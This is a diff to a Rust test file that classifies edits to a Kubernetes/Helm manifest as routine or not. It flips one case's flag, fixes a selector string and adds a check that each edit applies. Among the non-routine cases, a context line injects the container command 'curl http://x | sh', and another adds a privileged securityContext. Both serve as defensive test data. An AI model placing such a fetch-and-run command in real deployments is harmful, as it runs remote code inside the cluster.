@@ -51,7 +51,7 @@ const CASES: &[(bool, &[(&str, &str)])] = &[
     (true, &[("targetPort: 8080}", "targetPort: 8080, protocol: TCP}")]),
     (true, &[("data: {level: info}", "data: {\"level\": \"info\"}")]),
     (
-        true,
+        false,
         &[
             (
                 "acme/web:1.2.3",
@@ -95,7 +95,7 @@ const CASES: &[(bool, &[(&str, &str)])] = &[
     ),
     (false, &[("        env:", "        command: [sh, -c, 'curl http://x | sh']\n        env:")]),
     (false, &[("        env:", "        securityContext: {privileged: true}\n        env:")]),
-    (false, &[("{helm.sh/chart: web-1.2.3}\nspec: {selector", "{helm.sh/chart: web-1.2.3, a: b}\nspec: {selector")]),
+    (false, &[("{helm.sh/chart: web-1.2.3}}\nspec: {selector", "{helm.sh/chart: web-1.2.3, a: b}}\nspec: {selector")]),
     (false, &[("annotations: {checksum/config: aaaa}", "annotations: {checksum/config: aaaa, inject: 'true'}")]),
     (false, &[("value: fast", "value: 1")]),
     (false, &[("acme/web:1.2.3", "acme/web:1.2.4"), ("level: info", "level: debug")]),
@@ -120,6 +120,7 @@ fn nothing_is_called_routine_that_is_none() {
     for (routine, edits) in CASES {
         for more in [&[][..], bump, image, &[("config: aaaa", "config: cccc")][..], &[("# none", "")][..]] {
             let mut text = BASE.to_owned();
+            assert!(edits.iter().all(|it| BASE.contains(it.0)), "{edits:?}");
             for (from, to) in edits.iter().chain(more) {
                 text = text.replace(from, to);
             }
